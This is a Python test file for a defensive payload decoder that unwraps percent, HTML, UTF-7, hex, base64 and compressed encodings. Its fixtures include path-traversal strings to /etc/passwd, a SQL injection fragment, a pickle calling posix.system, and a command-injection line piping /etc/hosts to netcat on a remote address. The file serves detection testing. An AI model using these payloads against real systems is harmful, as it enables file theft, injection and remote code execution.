"""The decoding chain undoes each wrapping, in any order, and never without bound."""

import base64
import gzip
import html
import zlib

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from garrison.payload.decoding import MAX_ROUNDS, decode
from garrison.payload.judge import judge


@pytest.mark.parametrize(
    ("text", "plain", "steps"),
    [
        ("%3Cb%3E", "<b>", ("percent",)),
        ("%253Cb", "<b", ("percent", "percent")),
        ("%%32%65%%32%65/", "../", ("percent", "percent")),
        ("%c0%ae%c0%af", "./", ("percent",)),
        ("%u003cb", "<b", ("percent",)),
        ("&lt;b&#62;&#x3e;", "<b>>", ("html",)),
        ("\\u003cb\\x3e\\74", "<b><", ("escape",)),
        ("\\u{3c}b", "<b", ("escape",)),
        ("+ADw-b", "<b", ("utf-7",)),
        ("\0<\0b", "<b", ("utf-16",)),
        ("%00%00%00%3C%00%00%00b", "<b", ("percent", "utf-16")),
        ("0x2e0x2e0x2f", "../", ("hex",)),
        ("\uff1cb\uff1e", "<b>", ("unicode",)),
        ("Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "../../../etc/passwd", ("base64",)),
        ("Li4vLi4vLi4vLi4v\nZXRjL3Bhc3N3ZA==", "../../../../etc/passwd", ("base64",)),
        ("\\U0000003cb", "<b", ("escape",)),
        ("<scr\0ipt>", "<script>", ("nul",)),
        ("2e2e2f2e2e2f6574632f686f737473", "../../etc/hosts", ("hex",)),
        ("0x3c62206f61723e3c2f623e", "<b oar></b>", ("hex",)),
        ("\u00ef\u00bc\u009cb\u00ef\u00bc\u009e", "<b>", ("unicode",)),
        ("data:text/html;base64,PGI+aGVsbG8=", "data:text/html;base64,<b>hello", ("base64",)),
    ],
)
def test_each_wrapping(text: str, plain: str, steps: tuple[str, ...]) -> None:
    last = decode(text)[-1]
    assert (last.text, last.steps) == (plain, steps)


@pytest.mark.parametrize(
    "text",
    [
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "63a9f0ea7bb98050796b649e85481845",
        "550e8400e29b41d4a716446655440000",
        "4242424242424242424",
        "anemometerreading\nanemometerreadings",
        "\\U0000d800",
        "2e2e2f",
        "caf\u00e9 d\u2019or",
        "\u00c3\u00a9t\u00c3\u00a9",
    ],
)
def test_digests_and_numbers_say_nothing(text: str) -> None:
    assert decode(text) == ()


def test_what_is_compressed_is_seen_up_to_the_length_that_it_came_in() -> None:
    said = "; cat /etc/hosts | nc 10.0.0.1 4444"
    for data in (zlib.compress(said.encode()), gzip.compress(said.encode(), mtime=0)):
        assert decode(base64.b64encode(data).decode())[-1].text == said
    wide = base64.b64encode(zlib.compress(b"a" * 100_000)).decode()
    assert len(decode(wide)[-1].text) == len(wide)


def test_an_object_is_told_by_its_beginning_however_little_text_is_in_it() -> None:
    loaded = b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."
    for text in (base64.b64encode(loaded).decode(), loaded.hex()):
        assert decode(text)[0].text.encode("latin-1") == loaded
        assert [found.kind for found in judge([text])] == ["object"]


@pytest.mark.parametrize(
    ("piece", "plain"),
    [
        ("%3c a ", "< a "),
        ("%c0%af\u4e2d", "/\u4e2d"),
        ("%e9\u4e2d ", None),
        ("\\u003c\u4e2d", "<\u4e2d"),
        ("&#60; &eacute; ", "< \u00e9 "),
        ("a+ADw- ", "a< "),
        ("\uff1c \u4e2d ", "< \u4e2d "),
    ],
)
def test_many_places_are_undone_as_one_is(piece: str, plain: str | None) -> None:
    (once,), (many,) = decode(piece), decode(piece * 600)
    if plain is not None:
        assert once.text == plain
        assert many.text.replace("?", "\u4e2d") == plain * 600
    assert once.steps == many.steps


def test_what_hides_amid_many_is_seen_in_another_wrapping() -> None:
    last = decode("\u4e2d +ADw-" * 300 + "\uff1c%62&gt;")[-1].text
    assert last.endswith("<b>")
    assert "+ADw-" not in last


@pytest.mark.parametrize(
    "text",
    [
        "\\ud835\\udc00",
        "\\u{d835}",
        "\\u{110000}",
        "+ADdat-",
        "plain",
        "100 %",
        "a & b",
        "C:\\temp",
        "1+1-1",
        "aGVsbG8",
        "7f3e9a0c11d24e55aa0b9c3d",
    ],
)
def test_what_is_not_wrapped_stays(text: str) -> None:
    assert decode(text) == ()


@given(st.text(max_size=400))
def test_bounded(text: str) -> None:
    found = decode(text)
    assert len(found) <= MAX_ROUNDS
    assert all(len(each.text) <= 4 * len(text) + 4 for each in found)


def test_wrapping_upon_wrapping_ends() -> None:
    text = "<"
    for _ in range(12):
        text = "".join(f"%{ord(char):02x}" for char in text)
    assert len(decode(text)) == MAX_ROUNDS


def test_words_that_are_joined_by_plus_are_told_in_any_case() -> None:
    assert decode("1+UNION+Select+2")[-1].text == "1 UNION Select 2"


@pytest.mark.parametrize(
    ("text", "plain"), [("\u00e9\u00fc 'a'", None), ("\u00e9\u00a0or", "\u00e9 or"), ("s\u00ade\u00e9", "se\u00e9")]
)
def test_latin_letters_stay_and_its_lookalikes_do_not(text: str, plain: str | None) -> None:
    assert [each.text for each in decode(text)] == ([] if plain is None else [plain])


@pytest.mark.parametrize("sign", ["\u00e9", "\u0100", "\U0001d400"])
def test_bytes_that_are_no_utf_8_are_latin_1_beside_any_character(sign: str) -> None:
    assert decode(f"{sign}%e9%C0%bcx%a9")[0].text.startswith(f"{sign if sign != chr(0x1D400) else 'A'}\u00e9<x\u00a9")


def test_many_different_characters_are_replaced_as_one_is() -> None:
    wide = "".join(map(chr, range(0xFF01, 0xFF5F)))
    assert decode(wide * 20)[0].text == "".join(map(chr, range(0x21, 0x7F))) * 20


@pytest.mark.parametrize("text", ["\u2057 x", "x \u2032\u2057", "\uff07\u2057"])
def test_what_stands_for_a_sign_that_stands_for_another_is_replaced_once(text: str) -> None:
    assert decode(text)[0].text.count("\u2032") == 4 * text.count("\u2057")


@given(st.integers(0, 0x1FFFFF), st.sampled_from(["&#{};", "&#{:07};", "&#x{:x};", "&#X{:06X};"]))
@example(6, "&#{:07};")
@example(0x80, "&#x{:x};")
@example(0xD800, "&#{};")
@example(0xFDD0, "&#{};")
@example(0x1FFFE, "&#x{:x};")
@example(0x110000, "&#x{:x};")
def test_references_are_what_browsers_take_them_for(code: int, form: str) -> None:
    text = f"<{form.format(code)}>"
    if html.unescape(text) != text and code <= 9_999_999:
        assert decode(text)[0].text == _normal(html.unescape(text))


def _normal(text: str) -> str:
    """What compatibility forms stand for is undone in the same round."""
    return next((form.text for form in decode(text)), text)
